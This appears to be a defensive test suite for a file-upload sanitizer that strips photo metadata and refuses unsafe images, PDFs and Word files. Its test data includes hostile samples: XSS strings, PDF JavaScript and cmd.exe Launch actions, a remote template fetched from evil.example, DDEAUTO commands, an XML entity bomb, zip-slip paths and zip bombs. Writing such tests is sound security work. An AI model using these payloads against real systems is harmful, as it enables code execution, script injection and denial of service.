"""What is kept of an uploaded file, and what is refused."""

import contextlib
import io
import warnings

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image
from PIL.TiffImagePlugin import IFDRational

from chalicelib.tickets import documents, images
from chalicelib.tickets.examined import DOC, DOCX, MAX_FILE, PDF, Unfit
from chalicelib.tickets.files import examined
from tests.tickets import specimens


def refusal(data: bytes, claimed: str) -> str:
    with pytest.raises(Unfit) as refused:
        examined(data, claimed)
    return refused.value.reason


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "GIF", "WEBP"])
def test_a_picture_is_kept_as_what_it_is(kind: str) -> None:
    kept = examined(specimens.picture(kind), f"image/{kind.lower()}")
    assert kept.type == f"image/{kind.lower()}"
    with Image.open(io.BytesIO(kept.data)) as image:
        assert image.size == (40, 30)
        red, _, blue = image.convert("RGB").getpixel((5, 15))  # type: ignore[misc]
        assert red > 200
        assert blue < 60


def test_a_picture_under_the_name_of_another_kind_of_picture_is_kept() -> None:
    assert examined(specimens.picture("WEBP"), "image/jpeg").type == "image/webp"


def test_where_a_photo_was_taken_is_read_and_then_gone() -> None:
    kept = examined(specimens.photo_with_place(), "image/jpeg")
    assert kept.position == (23.61, 58.59)
    assert b"Salim" not in kept.data
    with Image.open(io.BytesIO(kept.data)) as image:
        assert not dict(image.getexif())
        assert not {"exif", "comment", "icc_profile", "xmp"} & set(image.info)


def test_a_phones_heic_becomes_a_jpeg_that_every_browser_shows() -> None:
    kept = examined(specimens.HEIC, "image/heic")
    assert (kept.type, kept.position) == ("image/jpeg", (23.61, 58.59))
    with Image.open(io.BytesIO(kept.data)) as image:
        assert (image.format, image.size) == ("JPEG", (40, 30))


def test_a_place_south_of_the_equator_is_negative() -> None:
    position = examined(specimens.photo_with_place(side="S"), "image/jpeg").position
    assert position is not None
    assert position[0] == -23.61


@pytest.mark.parametrize("lat", [(123, 0, 0.0), (23, 36, IFDRational(1, 0))])
def test_a_place_that_is_nowhere_is_no_place(lat: tuple[float, float, float]) -> None:
    assert examined(specimens.photo_with_place(lat=lat), "image/jpeg").position is None


def test_a_photo_is_turned_as_it_was_held() -> None:
    kept = examined(specimens.photo_with_place(orientation=6), "image/jpeg")
    with Image.open(io.BytesIO(kept.data)) as image:
        assert image.size == (30, 40)


def test_a_moving_picture_still_moves_without_its_comment() -> None:
    kept = examined(specimens.moving_picture(), "image/gif")
    with Image.open(io.BytesIO(kept.data)) as image:
        assert getattr(image, "n_frames", 1) == 3
    assert b"script" not in kept.data


def test_a_transparent_picture_stays_transparent() -> None:
    out = io.BytesIO()
    Image.new("RGBA", (8, 8), (0, 0, 0, 0)).save(out, "PNG")
    with Image.open(io.BytesIO(examined(out.getvalue(), "image/png").data)) as image:
        assert image.mode == "RGBA"


def test_a_grey_scan_stays_grey() -> None:
    out = io.BytesIO()
    Image.new("L", (8, 8), 9).save(out, "JPEG")
    with Image.open(io.BytesIO(examined(out.getvalue(), "image/jpeg").data)) as image:
        assert image.mode == "L"


def test_what_stands_behind_a_picture_is_not_kept() -> None:
    kept = examined(specimens.picture("PNG") + b"<svg onload=alert(1)>" + specimens.docx(), "image/png")
    assert b"svg" not in kept.data
    assert b"PK\x03\x04" not in kept.data


@pytest.mark.parametrize(
    ("data", "claimed", "reason"),
    [
        (b"", "image/png", "empty"),
        (b"GIF89a/*<svg onload=alert(1)>*/=1;", "image/gif", "unreadable"),
        (b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "image/png", "wrong-type"),
        (b"<html><script>alert(1)</script>", "application/pdf", "wrong-type"),
        (b"MZ\x90\x00" + b"\0" * 100, PDF, "wrong-type"),
        (b"RIFF\x10\0\0\0WEBPVP8 ", "image/webp", "unreadable"),
        (b"\0\0\0\x18ftypheic\0\0\0\0", "image/heic", "unreadable"),
        (b"\0\0\0\x18ftypisom\0\0\0\0", "image/heic", "wrong-type"),
        (specimens.picture()[:200], "image/jpeg", "unreadable"),
        (specimens.picture(), PDF, "wrong-type"),
        (specimens.pdf(), "image/png", "wrong-type"),
        (specimens.pdf(), DOCX, "wrong-type"),
        (specimens.huge_png(), "image/png", "too-many-pixels"),
        (specimens.huge_png(8000, 8000), "image/png", "too-many-pixels"),
        (specimens.huge_png(10_000, 10_000), "image/png", "too-many-pixels"),
    ],
)
def test_a_file_that_is_not_what_it_should_be_is_refused(data: bytes, claimed: str, reason: str) -> None:
    assert refusal(data, claimed) == reason


def test_a_file_over_the_limit_is_refused() -> None:
    assert refusal(b"%PDF-" + b"0" * MAX_FILE, PDF) == "too-large"


def test_a_picture_that_moves_too_much_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(images, "MAX_PIXELS", 16 * 16 * 4)
    assert refusal(specimens.moving_picture(5), "image/gif") == "too-many-pixels"


@pytest.mark.parametrize(
    "data",
    [
        specimens.pdf(),
        specimens.pdf_stream(b"1 0 <</Type/Annot>>"),
        specimens.pdf_stream(b"1 0 <</Type/Annot>>", b"/Type/ObjStm/N 1/First 4"),
        specimens.pdf_stream(b"/JavaScriptures", b"/Filter/FlateDecode"),
        specimens.pdf(b"% /JavaScripts"),
    ],
)
def test_a_quiet_pdf_is_kept_unchanged(data: bytes) -> None:
    kept = examined(data, PDF)
    assert (kept.data, kept.type, kept.position) == (data, PDF, None)


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (specimens.pdf(b"4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"), "active-content"),
        (specimens.pdf(b"4 0 obj<</S/J#61vaScript/J#53(app.alert(1))>>endobj"), "active-content"),
        (specimens.pdf(b"4 0 obj<</S/Launch/F(cmd.exe)>>endobj"), "active-content"),
        (specimens.pdf(b"4 0 obj<</Names<</EmbeddedFiles 5 0 R>>>>endobj"), "active-content"),
        (specimens.pdf(b"4 0 obj<</AcroForm<</XFA 7 0 R>>>>endobj"), "active-content"),
        (specimens.pdf_stream(b"1 0 <</S/JavaScript/JS(app.alert(1))>>"), "active-content"),
        (specimens.pdf_stream(b"<</S/Launch>>", b"/Type/ObjStm"), "active-content"),
        (specimens.pdf_stream(b"1 0 <<>>", b"/Type/Obj#53tm/Filter[/ASCIIHexDecode/FlateDecode]"), "unreadable"),
        (specimens.pdf(b"4 0 obj<</Type/ObjStm/Filter/FlateDecode>>\nstream\nno zlib\nendstream"), "unreadable"),
        (specimens.pdf(b"4 0 obj<</Encrypt 5 0 R>>endobj"), "encrypted"),
        (specimens.pdf() + specimens.docx(), "wrong-type"),
        (b"%PDF-1.7 <script>alert(1)</script>" + specimens.pdf(), "wrong-type"),
        (b"%PDF-1.7 and nothing more", "unreadable"),
    ],
)
def test_a_pdf_that_can_act_or_hide_is_refused(data: bytes, reason: str) -> None:
    assert refusal(data, PDF) == reason


def test_a_pdf_that_unpacks_without_end_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(documents, "MAX_UNPACKED", 10_000)
    assert refusal(specimens.pdf_stream(b"0" * 20_000), PDF) == "bomb"


def test_a_word_document_is_kept_unchanged() -> None:
    link = '<Relationship Type="http://x/hyperlink" Target="https://nidaa.example" TargetMode="External"/>'
    data = specimens.docx(relations=f"<Relationships>{link}</Relationships>")
    assert examined(data, DOCX).data == data


REMOTE = '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>'
ENTITIES = "<!DOCTYPE lolz [<!ENTITY lol 'lol'>]><w:document/>"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (specimens.docx({"word/vbaProject.bin": b"\0"}), "active-content"),
        (specimens.docx({"word/activeX/activeX1.xml": b"<a/>"}), "active-content"),
        (specimens.docx({"word/embeddings/oleObject1.bin": b"\0"}), "active-content"),
        (specimens.docx(types="<Types/>"), "wrong-type"),
        (specimens.docx({"word/vbaProject.bin": b"\0"}, types="macroEnabled"), "active-content"),
        (specimens.docx({"word/settings.xml": "application/vnd.ms-word.document.macroEnabled"}), "active-content"),
        (specimens.docx(relations=REMOTE), "active-content"),
        (specimens.docx(text="<w:instrText> DDEAUTO c:\\\\cmd.exe</w:instrText>"), "active-content"),
        (specimens.docx(text="<w:instrText>DDE</w:instrText><w:instrText>AUTO x</w:instrText>"), "active-content"),
        (specimens.docx(text=ENTITIES), "bomb"),
        (specimens.docx({"../../etc/passwd": b"x"}), "wrong-type"),
        (specimens.docx({"/word/x.xml": b"x"}), "wrong-type"),
        (specimens.docx() + b"<script>", "wrong-type"),
        (b"PK\x03\x04" + specimens.docx(), "wrong-type"),
        (b"PK\x03\x04" + b"\0" * 100, "unreadable"),
        (specimens.docx({str(i): b"" for i in range(2001)}), "bomb"),
    ],
)
def test_a_word_document_that_can_act_or_hide_is_refused(data: bytes, reason: str) -> None:
    assert refusal(data, DOCX) == reason


def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    bomb = specimens.docx({"word/media/image1.xml": b"\0" * (documents.MAX_UNPACKED + 1)})
    assert len(bomb) < 200_000
    assert refusal(bomb, DOCX) == "bomb"


def test_a_part_whose_size_lies_is_refused() -> None:
    data = bytearray(specimens.docx({"word/media/image1.png": b"\0" * 5000}))
    place = data.rfind(b"PK\x01\x02")
    data[place + 24 : place + 28] = (10).to_bytes(4, "little")
    assert refusal(bytes(data), DOCX) == "unreadable"


def test_a_part_under_a_password_is_refused() -> None:
    data = bytearray(specimens.docx())
    data[data.find(b"PK\x01\x02") + 8] |= 1
    assert refusal(bytes(data), DOCX) == "encrypted"


def test_an_old_word_document_is_kept_unchanged() -> None:
    data = specimens.doc("WordDocument", "1Table")
    assert examined(data, DOC).data == data


@pytest.mark.parametrize(
    ("names", "reason"),
    [
        (("Workbook",), "wrong-type"),
        (("WordDocument", "_VBA_PROJECT"), "active-content"),
        (("WordDocument", "Macros"), "active-content"),
        (("WordDocument", "\x01Ole10Native"), "active-content"),
        (("EncryptedPackage", "EncryptionInfo"), "encrypted"),
    ],
)
def test_an_old_word_document_that_can_act_is_refused(names: tuple[str, ...], reason: str) -> None:
    assert refusal(specimens.doc(*names), DOC) == reason


HONEST = (
    (specimens.photo_with_place(), "image/jpeg"),
    (specimens.picture("PNG"), "image/png"),
    (specimens.moving_picture(), "image/gif"),
    (specimens.picture("WEBP"), "image/webp"),
    (specimens.pdf_stream(b"1 0 <<>>"), PDF),
    (specimens.docx(), DOCX),
    (specimens.doc("WordDocument"), DOC),
)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(HONEST), st.lists(st.tuples(st.floats(0, 0.999), st.binary(max_size=6)), min_size=1, max_size=8))
def test_a_bent_file_is_kept_or_refused_and_nothing_else(
    honest: tuple[bytes, str], bends: list[tuple[float, bytes]]
) -> None:
    data, claimed = bytearray(honest[0]), honest[1]
    for place, change in bends:
        start = int(place * len(data))
        data[start : start + max(len(change), 1)] = change
    with warnings.catch_warnings(), contextlib.suppress(Unfit):
        warnings.simplefilter("ignore")
        assert examined(bytes(data), claimed).data


def test_a_part_whose_name_is_no_text_is_refused() -> None:
    data = bytearray(specimens.docx({"حفرة.png": b"x"}))
    place = data.rfind("حفرة".encode())
    data[place : place + 2] = b"\xff\xff"
    assert refusal(bytes(data), DOCX) == "unreadable"
